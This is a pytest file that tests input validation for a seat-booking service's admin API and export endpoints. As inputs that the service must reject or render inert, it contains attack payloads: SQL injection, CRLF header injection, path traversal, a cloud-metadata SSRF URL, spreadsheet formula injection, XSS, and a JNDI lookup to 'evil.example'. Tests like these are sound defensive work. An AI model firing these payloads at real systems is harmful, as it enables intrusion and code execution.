"""What is no event, no change, no list of seats and no question for administrators to ask: each
case with its exact status, the name of what is wrong, and no effect. See test_bad_people.py.
"""

import itertools

import pytest

from support import effects
from support.people import event_of, post_event
from support.problem import assert_named, assert_problem

JSON = {"Content-Type": "application/json"}

_numbers = itertools.count(1)


@pytest.fixture(scope="module")
def event(whole_stack):
    """A hall of 3 free seats that nobody gets to change."""
    return whole_stack.create_event(3, "kept")


# --- administration: what is no event ---------------------------------------------------------

def section(**changes):
    values = {"name": "Hall", "rows": ["A"], "seatsPerRow": 2, "priceMinor": 100, **changes}
    return [{name: value for name, value in values.items() if value is not None}]


NO_EVENTS = {
    "no name": ({"name": None}, "name"), "an empty name": ({"name": ""}, "name"),
    "a blank name": ({"name": "   "}, "name"), "a name of 201": ({"name": "x" * 201}, "name"),
    "a list for a name": ({"name": ["x"]}, "name"),
    "a name of two lines": ({"name": "An evening\r\nSet-Cookie: a=b"}, "name"),
    "a name that rings": ({"name": "An evening\u0007"}, "name"),
    "a name with a C1 control": ({"name": "An evening\u009b31m"}, "name"),
    "a name of two paragraphs": ({"name": "An\u2029evening"}, "name"),
    "a venue of two lines": ({"venue": "The hall\nof fame"}, "venue"),
    "a venue of 201": ({"venue": "\u00e4" * 201}, "venue"),
    "a kind with blanks": ({"kind": "a concert"}, "kind"),
    "a kind with quotes": ({"kind": "'; DROP TABLE events; --"}, "kind"),
    "a long kind": ({"kind": "x" * 33}, "kind"),
    "no date": ({"date": None}, "date"), "no such day": ({"date": "2030-02-30T19:30:00Z"}, "date"),
    "a date without a zone": ({"date": "2030-01-01T19:30:00"}, "date"),
    "a date of another calendar": ({"date": "10000-01-01T00:00:00Z"}, "date"),
    "a date before all": ({"date": "0001-01-01T00:00:00Z"}, "date"),
    "infinity": ({"date": "infinity"}, "date"), "now()": ({"date": "now()"}, "date"),
    "an id with a slash": ({"eventId": "a/b"}, "eventId"),
    "an id that is a path": ({"eventId": ".."}, "eventId"),
    "an id of 65": ({"eventId": "x" * 65}, "eventId"),
    "an id with a NUL's name": ({"eventId": "%00"}, "eventId"),
    "an id in Cyrillic": ({"eventId": "\u0430bc"}, "eventId"),
    "a currency of four": ({"currency": "EURO"}, "currency"),
    "a currency in small letters": ({"currency": "eur"}, "currency"),
    "no currency": ({"currency": 978}, "currency"),
    "a hold of 99 ms": ({"holdTtlMs": 99}, "holdTtlMs"),
    "a hold of two days": ({"holdTtlMs": 172_800_000}, "holdTtlMs"),
    "a hold of half a ms": ({"holdTtlMs": 1000.5}, "holdTtlMs"),
    "a hold in words": ({"holdTtlMs": "120000"}, "holdTtlMs"),
    "-1 extensions": ({"holdExtensionsMax": -1}, "holdExtensionsMax"),
    "101 extensions": ({"holdExtensionsMax": 101}, "holdExtensionsMax"),
    "no seats for anybody": ({"seatsPerUserMax": 0}, "seatsPerUserMax"),
    "-1 seats for everybody": ({"seatsPerUserMax": -1}, "seatsPerUserMax"),
    "2^63 - 1 seats for everybody": ({"seatsPerUserMax": 2**63 - 1}, "seatsPerUserMax"),
    "no holds for anybody": ({"holdsPerUserMax": 0}, "holdsPerUserMax"),
    "a sale that ends before it begins": ({"salesOpenAt": "2029-01-02T00:00:00Z",
                                           "salesCloseAt": "2029-01-01T00:00:00Z"},
                                          "salesCloseAt"),
    "no sections": ({"sections": None}, "sections"),
    "an empty hall": ({"sections": []}, "sections"),
    "a section that is text": ({"sections": ["Hall"]}, "sections[0]"),
    "201 sections": ({"sections": section() * 201}, "sections"),
    "no rows": ({"sections": section(rows=0)}, "sections[0].rows"),
    "-1 rows": ({"sections": section(rows=-1)}, "sections[0].rows"),
    "1,001 rows": ({"sections": section(rows=1001)}, "sections[0].rows"),
    "an empty list of rows": ({"sections": section(rows=[])}, "sections[0].rows"),
    "a row twice": ({"sections": section(rows=["A", "A"])}, "sections[0].rows"),
    "a row that is a path": ({"sections": section(rows=["../A"])}, "sections[0].rows[0]"),
    "a row that is a formula": ({"sections": section(rows=["=1+1"])}, "sections[0].rows[0]"),
    "no seats in a row": ({"sections": section(seatsPerRow=0)}, "sections[0].seatsPerRow"),
    "1,001 seats in a row": ({"sections": section(seatsPerRow=1001)}, "sections[0].seatsPerRow"),
    "1e9 seats in a row": ({"sections": section(seatsPerRow=10**9)}, "sections[0].seatsPerRow"),
    "101,000 seats": ({"sections": section(rows=101, seatsPerRow=1000)}, "sections"),
    "20,000,000 seats": ({"sections": section(rows=1000, seatsPerRow=1000) * 20}, "sections"),
    "two sections of the same seats": ({"sections": section() * 2}, "sections[1].rows"),
    "a section that cannot be in an id": ({"sections": section(name="The hall")},
                                          "sections[0].seatPrefix"),
    "ids of 65": ({"sections": section(seatPrefix="x" * 61)}, "sections[0].rows[0]"),
    "a price below nothing": ({"sections": section(priceMinor=-1)}, "sections[0].priceMinor"),
    "a price beyond all": ({"sections": section(priceMinor=10**12 + 1)}, "sections[0].priceMinor"),
    "half a cent": ({"sections": section(priceMinor=0.5)}, "sections[0].priceMinor"),
    "a price in words": ({"sections": section(priceMinor="100")}, "sections[0].priceMinor"),
    "a date under two names": ({"startsAt": "2031-01-01T00:00:00Z"}, "startsAt"),
    "100,001 seats in all": ({"sections": None, "totalSeats": 100_001}, "totalSeats"),
}


@pytest.mark.parametrize("path", ["/api/events", "/api/shows"])
@pytest.mark.parametrize("case", NO_EVENTS)
def test_what_is_no_event_is_refused_by_name(admin, nothing, path, case):
    changes, field = NO_EVENTS[case]
    body = {**event_of(2, "never"), **changes}
    body = {name: value for name, value in body.items() if value is not None}
    assert_named(admin.web.post(path, body), 422, field)


@pytest.mark.parametrize("data, status", [
    (b'{"name":"a","name":"b"}', 400), (b'{"sections":1e999}', 400),
    (b'{"name":"a\\u0000b"}', 400), (b'{"date":99999999999999999999}', 400),
    (b'{"sections":' + b"[" * 500 + b"]" * 500 + b"}", 400), (b"[1]", 400)],
    ids=["a name twice", "1e999", "a NUL", "a number too large", "deep", "a list"])
@pytest.mark.parametrize("method, path", [
    ("POST", "/api/events"), ("PATCH", "/api/events/EVENT"),
    ("PUT", "/api/events/EVENT/seats/block"), ("PUT", "/api/events/EVENT/seats/unblock"),
    ("POST", "/api/events/EVENT/cancel")])
def test_what_is_no_json_changes_nothing(admin, event, nothing, method, path, data, status):
    answer = admin.web.request(method, path.replace("EVENT", event), data, JSON)
    assert_problem(answer, status)


NO_CHANGES = {
    "nothing": ({}, "body"), "another id": ({"eventId": "another"}, "eventId"),
    "other seats": ({"sections": section()}, "sections"),
    "another currency": ({"currency": "USD"}, "currency"),
    "no name": ({"name": None}, "name"), "no date": ({"date": None}, "date"),
    "no hold": ({"holdTtlMs": None}, "holdTtlMs"), "a version": ({"version": 9}, "body"),
    "an end": ({"cancelled_at": None}, "body"), "prices of nothing": ({"prices": []}, "prices"),
    "a price of no section": ({"prices": [{"priceMinor": 1}]}, "prices[0].section"),
    "a price below nothing": ({"prices": [{"section": "Hall", "priceMinor": -5}]},
                              "prices[0].priceMinor"),
    "a price twice": ({"prices": [{"section": "Hall", "priceMinor": 5}] * 2}, "prices[1].section"),
}


@pytest.mark.parametrize("case", NO_CHANGES)
def test_what_is_no_change_changes_nothing(admin, event, nothing, case):
    changes, field = NO_CHANGES[case]
    assert_named(admin.web.request("PATCH", f"/api/events/{event}", changes), 422, field)


NO_SEAT_LISTS = {
    "none": ({}, "seatIds"), "null": ({"seatIds": None}, "seatIds"),
    "an empty list": ({"seatIds": []}, "seatIds"), "a text": ({"seatIds": "S1"}, "seatIds"),
    "all of them": ({"seatIds": "*"}, "seatIds"), "a list of lists": ({"seatIds": [["S1"]]},
                                                                      "seatIds[0]"),
    "a seat twice": ({"seatIds": ["S1", "S2", "S1"]}, "seatIds[2]"),
    "a seat that is null": ({"seatIds": ["S1", None]}, "seatIds[1]"),
    "a path": ({"seatIds": [".."]}, "seatIds[0]"),
    "a pattern": ({"seatIds": ["S%"]}, "seatIds[0]"),
    "a long one": ({"seatIds": ["x" * 65]}, "seatIds[0]"),
}


@pytest.mark.parametrize("verb", ["block", "unblock"])
@pytest.mark.parametrize("case", NO_SEAT_LISTS)
def test_what_is_no_list_of_seats_blocks_nothing(admin, event, nothing, verb, case):
    body, field = NO_SEAT_LISTS[case]
    assert_named(admin.web.request("PUT", f"/api/events/{event}/seats/{verb}", body), 422, field)


@pytest.mark.parametrize("verb", ["block", "unblock"])
def test_1001_seats_are_too_many_to_block(admin, event, nothing, verb):
    body = {"seatIds": [f"S{n}" for n in range(1001)]}
    answer = admin.web.request("PUT", f"/api/events/{event}/seats/{verb}", body)
    assert_named(answer, 422, "seatIds")


def test_another_events_seats_are_not_blocked(admin, alice, whole_stack):
    """Seats are named within the event of the path: another event's of that name stay free."""
    mine, theirs = whole_stack.create_event(2), whole_stack.create_event(4)
    answer = admin.web.request("PUT", f"/api/events/{mine}/seats/block",
                               {"seatIds": ["S1", "S3", "S4"], "eventId": theirs})
    assert answer.status == 202, answer
    (command,) = answer.json()["commands"]
    found = admin.outcome(command["bookingId"])
    assert (found["event_id"], found["status"], sorted(found["seats_lost"])) == (
        mine, "done", ["S3", "S4"])
    assert whole_stack.history(theirs) == []
    assert {s["status"] for s in whole_stack.seat_map(theirs)["seats"]} == {"available"}


def test_a_block_takes_no_seat_that_somebody_has(admin, alice, whole_stack):
    event = whole_stack.create_event(2)
    booking = alice.held(event, ["S1"], mode="book")
    answer = admin.web.request("PUT", f"/api/events/{event}/seats/block", {"seatIds": ["S1"]})
    found = admin.outcome(answer.json()["commands"][0]["bookingId"])
    assert (found["status"], found["reason"]) == ("rejected", "seat_taken")
    assert alice.booking(booking["booking_id"])["version"] == 1
    assert whole_stack.seat(event, "S1")["status"] == "booked"


@pytest.mark.parametrize("method, path", [
    ("PATCH", "/api/events/ID"), ("POST", "/api/events/ID/cancel"),
    ("PUT", "/api/events/ID/seats/block"), ("PUT", "/api/events/ID/seats/unblock"),
    ("GET", "/api/events/ID/bookings.csv")])
@pytest.mark.parametrize("bad", ["a%20b", "%2e%2e", "x" * 65, "a%27--", "%00", "$ne",
                                 "http:%2f%2f169.254.169.254%2flatest", "a;b", "a%0d%0aX-Y:z"])
def test_what_is_no_event_id_reaches_nothing(admin, nothing, method, path, bad):
    body = {"GET": b"", "PATCH": b'{"venue":"x"}'}.get(method, b'{"seatIds":["S1"]}')
    answer = admin.web.raw(
        f"{method} {path.replace('ID', bad)} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"
        f"Authorization: Bearer {admin.token}\r\nContent-Type: application/json\r\n"
        f"Content-Length: {len(body)}\r\n\r\n".encode() + body, method)
    assert_problem(answer, 400 if bad == "%00" else 404)


# --- keys and questions -----------------------------------------------------------------------

@pytest.mark.parametrize("key", ["", " ", "a b", "x" * 129, "a\u00e4"])
@pytest.mark.parametrize("method, path, body", [
    ("POST", "/api/events", event_of(1, "keyed")), ("POST", "/api/events/EVENT/cancel", {}),
    ("PUT", "/api/events/EVENT/seats/block", {"seatIds": ["S1"]})])
def test_what_is_no_key_names_nothing(admin, event, nothing, method, path, body, key):
    headers = {"Idempotency-Key": key.encode("latin1").decode("latin1")}
    answer = admin.web.request(method, path.replace("EVENT", event), body, headers)
    assert_named(answer, 422, "Idempotency-Key")


def test_an_event_made_again_with_another_body_is_refused(whole_stack, admin):
    key = {"Idempotency-Key": f"event-{next(_numbers)}-{admin.user_id}"}
    body = event_of(2, "twice")
    assert admin.web.post("/api/events", body, key).status == 201
    with effects.none(whole_stack):
        assert_problem(admin.web.post("/api/events", {**body, "name": "Another"}, key), 422)
        assert_problem(admin.web.post("/api/events", body), 409)


@pytest.mark.parametrize("query, field", [
    ("eventId=a%20b", "eventId"), ("eventId=%2e%2e", "eventId"), ("bookingId=x", "bookingId"),
    ("eventId=a&limit=0", "limit"), ("eventId=a&limit=101", "limit"),
    ("eventId=a&limit=1e9", "limit"), ("eventId=a&cursor=x", "cursor"),
    ("eventId=a&cursor=%27%3bDROP", "cursor"), ("eventId=a&eventId=b", "eventId")])
def test_a_bad_question_to_the_audit_is_refused_by_name(admin, nothing, query, field):
    assert_named(admin.web.get(f"/api/admin/audit?{query}"), 400, field)


@pytest.mark.parametrize("partition, offset", [
    ("-1", "0"), ("0", "-1"), ("x", "0"), ("0", "x"), ("0", "1e3"), ("0", "0x1"), ("1.5", "0"),
    ("99999999999999999999", "0"), ("0", "99999999999999999999"), ("2147483648", "0"),
    ("0", "9223372036854775808"), ("%30", "%00"), ("0", "0%20"), ("01", "0"), ("0", "9999999")])
def test_what_is_no_dead_letter_is_not_replayed(admin, nothing, partition, offset):
    path = f"/api/admin/dead-letters/{partition}/{offset}/replay"
    answer = admin.web.post(path, {})
    assert_problem(answer, 400 if "%00" in path else 404)


@pytest.mark.parametrize("query", ["limit=0", "limit=101", "limit=x", "cursor=x", "cursor=-1",
                                   "cursor=%00", "limit=1&limit=2"])
def test_a_bad_question_for_dead_letters_is_refused_by_name(admin, nothing, query):
    assert_named(admin.web.get(f"/api/admin/dead-letters?{query}"), 400, query.partition("=")[0])


@pytest.mark.parametrize("query", ["limit=0", "limit=100001", "limit=x", "cursor=x", "cursor=%27"])
def test_a_bad_question_for_an_export_is_refused_by_name(admin, event, nothing, query):
    assert_named(admin.web.get(f"/api/events/{event}/bookings.csv?{query}"), 400,
          query.partition("=")[0])


# --- what is stored and shown to others -------------------------------------------------------

FORMULAS = ["=cmd|'/c'!A1", "+1+1", "-2+3", "@SUM(A1)"]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_in_an_export_is_text(whole_stack, admin, formula):
    """Whoever books for somebody may write what they like where ids and references are theirs."""
    event = whole_stack.create_event(1)
    booking = admin.held(event, ["S1"])
    reference = formula.replace(" ", "")
    admin.decision(booking["booking_id"], "confirm", body={"paymentReference": reference})
    text = admin.web.get(f"/api/events/{event}/bookings.csv").body.decode()
    assert "'" + reference in text.replace('""', '"')
    for line in text.splitlines():
        assert not any(cell.strip('"')[:1] in tuple("=+-@\t\r") for cell in line.split(",")), line


@pytest.mark.parametrize("name", [
    "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", '"}],"role":"admin"',
    "'; DROP TABLE events; --", "${jndi:ldap://evil.example/a}", "{{7*7}}", "%n%n%s%x",
    "\u202eevening", "\U0001f3ad" * 200, "Zo\u00eb \ufb01ne", "a\u0301" * 100])
def test_words_for_people_are_kept_as_they_are_and_mean_nothing(whole_stack, admin, name):
    event = post_event(admin, 1, "words", name=name, venue=name)
    answer = whole_stack.web.get(f"/api/events/{event}/layout")
    assert (answer.json()["name"], answer.json()["venue"]) == (name, name)
    assert answer.header("Content-Type") == "application/json"
    assert answer.header("X-Content-Type-Options") == "nosniff"
    (row,) = whole_stack.pg_rows("SELECT name, venue FROM events WHERE event_id = %s", event)
    assert row == (name, name)


def test_an_administrators_command_is_no_booking_to_act_on(whole_stack, admin):
    event = whole_stack.create_event(2)
    answer = admin.web.request("PUT", f"/api/events/{event}/seats/block", {"seatIds": ["S1"]})
    booking_id = answer.json()["commands"][0]["bookingId"]
    admin.outcome(booking_id)
    for verb in ("confirm", "extend", "cancel"):
        entry = admin.decision(booking_id, verb)
        assert (entry["result"], entry["reason"]) == ("refused", "not_a_booking")
    assert whole_stack.seat(event, "S1")["status"] == "blocked"
